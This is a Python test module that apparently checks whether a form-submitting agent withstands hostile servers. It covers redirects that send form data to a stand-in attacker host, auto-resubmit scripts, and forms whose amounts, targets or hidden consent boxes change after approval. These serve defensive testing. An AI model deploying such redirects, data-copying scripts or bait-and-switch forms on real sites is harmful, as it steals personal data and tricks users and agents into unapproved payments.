"""Tricks of the server: redirects, dying connections, slow and odd answers, pages that come back different."""

from __future__ import annotations

from collections.abc import Callable

from tests.attacks.site import HTML, THANKS, Answers, Rude
from tests.attacks.tricks import Trick, answer, at, form, has, posts, stolen
from tests.parts.recording import Arrived, Reply

RESEND = (307, 308)
ODD = "It may or may not have arrived"
TOKEN = '<input type="hidden" name="csrf_token" value="{}">'
LATE = "goes-on-sending-as-the-answer-comes"
PLAN = '<input type="hidden" name="plan" value="tariff-2026-monthly-{}">'
AMOUNT = '<label>Amount <input name="amount" value="{}" readonly></label>'
TOKENS = ("9f8e7d6c5b4a39281706f5e4d3c2b1a0", "0a1b2c3d4e5f60718293a4b5c6d7e8f9")


def sends(*replies: Reply) -> Callable[[str, str], Answers]:
    """Answers what the form sends."""
    return answer("POST", "/send", *replies)


def redirect(status: int, to: str) -> Reply:
    """A redirect."""
    return Reply(status, headers=(("Location", to),))


def own_redirect(status: int) -> Trick:
    """To another address of the same site."""
    if status in RESEND:
        return Trick(f"redirect-{status}-own", form(), at("/next"), ends="cancelled", sheets=2,
                     warns="asking for it to be sent to another address", answers=sends(redirect(status, "/next")))
    return Trick(f"redirect-{status}-own", form(), lambda seen: bool(seen.at("/next")), sheets=1,
                 answers=sends(redirect(status, "/next")))


def other_redirect(status: int) -> Trick:
    """To another site."""
    if status in RESEND:
        return Trick(f"redirect-{status}-other", form(), stolen, ends="cancelled", sheets=2, warns="another site",
                     answers=sends(redirect(status, "@EVIL@/next")))
    return Trick(f"redirect-{status}-other", form(), lambda seen: bool(seen.evil), ends="cancelled", sheets=2,
                 warns="another site", answers=sends(redirect(status, "@EVIL@/next")))


def with_data(status: int, where: str) -> Callable[[str, str], Answers]:
    """Redirects to an address with what was sent in its query."""
    def made(site: str, evil: str) -> Answers:
        def reply(request: Arrived) -> Reply | None:
            if request.method != "POST":
                return None
            to = (evil if where == "other" else site) + "/next?" + request.body.decode()
            return redirect(status, to)
        return reply
    return made


def coming_back(*htmls: str, cookies: tuple[str, ...] = ()) -> Callable[[str, str], Answers]:
    """A start page that is another one each time it is opened."""
    headers = [(HTML, ("Set-Cookie", each)) for each in cookies] or [(HTML,)] * len(htmls)
    return answer("GET", "/", *(Reply(body=html.encode(), headers=own)
                                for html, own in zip(htmls, headers, strict=True)))


def parked(name: str, first: str, second: str, *, asked: bool, **more: object) -> Trick:
    """Approved on one page, carried out on another. ``asked``: the person must be asked again."""
    rest = {"arrive": 0 if asked else 1, "ends": "cancelled" if asked else "done", "sheets": 2 if asked else 1, **more}
    return Trick(name, "", lambda seen: posts(1)(seen), parked=True,
                 answers=rest.pop("answers", coming_back(first, second)), **rest)  # type: ignore[arg-type]


def body(html: str, status: int = 200, *headers: tuple[str, str]) -> Reply:
    """A page as an answer."""
    page = f"<!doctype html><html lang='en'><title>Answer</title>{html}</html>"
    return Reply(status, page.encode(), (HTML, *headers))


RETRY = ("Retry-After", "1")
LEFT = '<form method="post" action="/send" id="again">{}<button>{}</button></form>'
COPY = "<input type='hidden' name='full_name' value='Eleanor Whitcombe'><input type='hidden' name='email' " \
       "value='e.whitcombe@example.org'>"
RESUBMIT = "<script>document.getElementById('again').submit();</script>"


def never_again(name: str, reply: Reply, ends: str, **more: object) -> Trick:
    """An answer after which the same must not be sent a second time."""
    does = more.pop("does", posts(1))
    return Trick(name, form(), does, ends=ends, answers=sends(reply), **more)  # type: ignore[arg-type]


TRICKS = (
    *(own_redirect(status) for status in (301, 302, 303, 307, 308)),
    *(other_redirect(status) for status in (301, 302, 303, 307, 308)),
    Trick("redirect-303-own-with-data", form(), at("/next"), answers=with_data(303, "own"),
          named=("/next?full_name=Eleanor+Whitcombe&email=e.whitcombe%40example.org",)),
    Trick("redirect-302-other-with-data", form(), stolen, ends="cancelled", sheets=2, warns="another site",
          answers=with_data(302, "other")),
    Trick("redirect-307-to-itself", form(), posts(2), ends="cancelled", sheets=2,
          answers=sends(redirect(307, "/send"))),
    Trick("redirect-308-with-a-query", form(), posts(2), ends="cancelled", sheets=2,
          answers=sends(redirect(308, "/send?amount=1000"))),
    Trick("refresh-elsewhere", form(), lambda seen: bool(seen.evil), races=True, answers=sends(
        body("<h1>Thank you</h1><p>Your reference is TT-1.</p>", 200, ("Refresh", "0; url=@EVIL@/next")))),
    Trick("meta-refresh-elsewhere", form(), lambda seen: bool(seen.evil), races=True, answers=sends(
        body("<meta http-equiv='refresh' content='0; url=@EVIL@/next'><h1>Thank you</h1><p>Reference TT-1.</p>"))),
    # connections that end
    never_again("dies-by-fin", Reply(die=True), "unknown", does=posts(2), warns=""),
    never_again("dies-by-reset", Rude(reset=True), "unknown", does=posts(2)),
    never_again("dies-in-the-headers", Rude(raw=b"HTTP/1.1 200 OK\r\nContent-Ty"), "unknown"),
    never_again("dies-in-the-body", Rude(raw=b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5000\r\n"
                                             b"\r\n<h1>Thank"), "any"),
    never_again("no-http", Rude(raw=b"\x00\x01\x02 nothing of the kind\r\n\r\n"), "unknown"),
    never_again("continues-first", Rude(raw=b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 Early Hints\r\n\r\n"
                                            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
                                            + str(len(THANKS)).encode() + b"\r\nConnection: close\r\n\r\n" + THANKS),
                "done"),
    never_again("two-answers", Rude(raw=b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
                                        + str(len(THANKS)).encode() + b"\r\n\r\n" + THANKS
                                        + b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"), "done"),
    never_again("slow-answer", Rude(body=THANKS, pause=3), "done"),
    # answers that ask for more of the same
    never_again("408", Reply(408, headers=(HTML, ("Connection", "close"))), "any", does=posts(1)),
    never_again("425", body("<h1>Too early</h1>", 425, RETRY), "any"),
    never_again("429", body("<h1>Too many requests</h1>", 429, RETRY), "any"),
    never_again("503", body("<h1>Busy. Try again.</h1>", 503, RETRY), "any"),
    never_again("500-with-the-form-again", body(f"<h1>Error</h1>{LEFT.format(COPY, 'Try again')}", 500), "any"),
    never_again("401-asks-for-a-name", Reply(401, headers=(HTML, ("WWW-Authenticate", 'Basic realm="x"'))), "any"),
    never_again("421", Reply(421, headers=(HTML,)), "any"),
    never_again("204", Reply(204, headers=()), "any"),
    never_again("205", Reply(205, headers=()), "any"),
    Trick(LATE, form(script="host.addEventListener('submit', () => setInterval(() => fetch('/log', {method: 'POST', "
                            "body: host.email.value}), 50));"), at("/log"), sheets=1,
          answers=sends(Rude(body=THANKS, pause=1))),
    Trick("sent-again-by-the-answer", form(), posts(2), ends="cancelled", sheets=2, warns="already sent exactly this",
          answers=sends(body(f"<h1>Please wait</h1>{LEFT.format(COPY, 'Go on')}{RESUBMIT}"), Reply(body=THANKS))),
    Trick("sent-again-with-another-amount", form(), has("amount", "1000.00"), ends="cancelled", sheets=2, answers=sends(
        body("<h1>Please wait</h1>" + LEFT.format("<input type='hidden' name='amount' value='1000.00'>", "Go on")
             + RESUBMIT), Reply(body=THANKS))),
    Trick("back-and-sent-again", form(script="""
        addEventListener("pageshow", (e) => { if (sessionStorage.sent === "1") { sessionStorage.sent = "2";
          host.full_name.value = "Eleanor Whitcombe"; host.email.value = "e.whitcombe@example.org"; host.submit(); } });
        host.addEventListener("submit", () => { sessionStorage.sent = sessionStorage.sent || "1"; });"""),
          posts(2), races=True, answers=sends(
              body("<h1>Thank you</h1><p>Reference TT-1</p><script>if (sessionStorage.sent === '1') setTimeout(() => "
                   "history.back(), 50);</script>"))),
    Trick("reload-of-the-answer", form(), posts(2), races=True, answers=sends(
        body("<h1>Thank you</h1><p>Reference TT-1</p><script>if (!sessionStorage.r) { sessionStorage.r = 1; "
             "location.reload(); }</script>"))),
    Trick("confirm-page-with-another-price", form(AMOUNT.format("10.00")), has("amount", "99.00"), ends="cancelled",
          sheets=2, answers=sends(body("<h1>Please confirm</h1><p>The price is now 99.00.</p>" + LEFT.format(
              "<input type='hidden' name='amount' value='99.00'>", "Confirm and send")), Reply(body=THANKS))),
    Trick("confirm-page-says-next", form(), has("subscribe", "yes"), ends="cancelled", sheets=2, answers=sends(
        body("<h1>Nearly there</h1>" + LEFT.format("<input type='hidden' name='subscribe' value='yes'>", "Next")),
        Reply(body=THANKS))),
    # between the approval and the sending the page has been opened anew
    parked("parked-the-same", form(), form(), asked=False),
    parked("parked-new-token", form(TOKEN.format(TOKENS[0])), form(TOKEN.format(TOKENS[1])), asked=False,
           renewed=("csrf_token",)),
    parked("parked-token-becomes-an-amount", form(TOKEN.format(TOKENS[0])), form(TOKEN.format("1000.00")), asked=True),
    parked("parked-token-becomes-words", form(TOKEN.format(TOKENS[0])), form(TOKEN.format("I owe you 1000.00")),
           asked=True),
    parked("parked-plan-that-looks-random", form(PLAN.format("10.00")), form(PLAN.format("99.00")), asked=True),
    parked("parked-word-under-a-token-name", form(TOKEN.format("once")), form(TOKEN.format("monthly")), asked=True),
    parked("parked-amount", form(AMOUNT.format("10.00")), form(AMOUNT.format("1000.00")), asked=True),
    parked("parked-hidden-amount", form('<input type="hidden" name="amount" value="10.00">'),
           form('<input type="hidden" name="amount" value="1000.00">'), asked=True),
    parked("parked-new-field", form(), form('<input type="hidden" name="donation" value="25.00">'), asked=True),
    parked("parked-field-gone", form('<input type="hidden" name="cap" value="10.00">'), form(), asked=True),
    parked("parked-other-address", form(), form(attributes='method="post" action="/subscribe"'), asked=True),
    parked("parked-other-site", form(), form(attributes='method="post" action="@EVIL@/take"'), asked=True,
           warns="another site"),
    parked("parked-other-method", form(), form(attributes='method="get" action="/send"'), asked=True),
    parked("parked-other-type", form(), form(attributes='method="post" action="/send" enctype="multipart/form-data"'),
           asked=True),
    parked("parked-other-order", form(), form(fields='<p><label>Email <input name="email" type="email"></label></p>'
           '<p><label>Full name <input name="full_name"></label></p>'), asked=True),
    parked("parked-copies", form(), form(script="host.addEventListener('submit', () => navigator.sendBeacon('/log', "
           "new URLSearchParams(new FormData(host))));"), asked=False, races=True),
    parked("parked-session-of-another", form(), form(), asked=False,
           answers=coming_back(form(), form(), cookies=("session=victim; Path=/", "session=attacker; Path=/"))),
    parked("parked-cookie-by-the-page", form(), form(script="host.addEventListener('submit', () => { "
           "document.cookie = 'pay=1000.00; path=/'; });"), asked=True),
    parked("parked-consent", form(), form('<div style="position: absolute; left: -999px"><label><input type="checkbox" '
           'name="newsletter" value="yes" checked> Send me offers by email</label></div>'), asked=True),
)

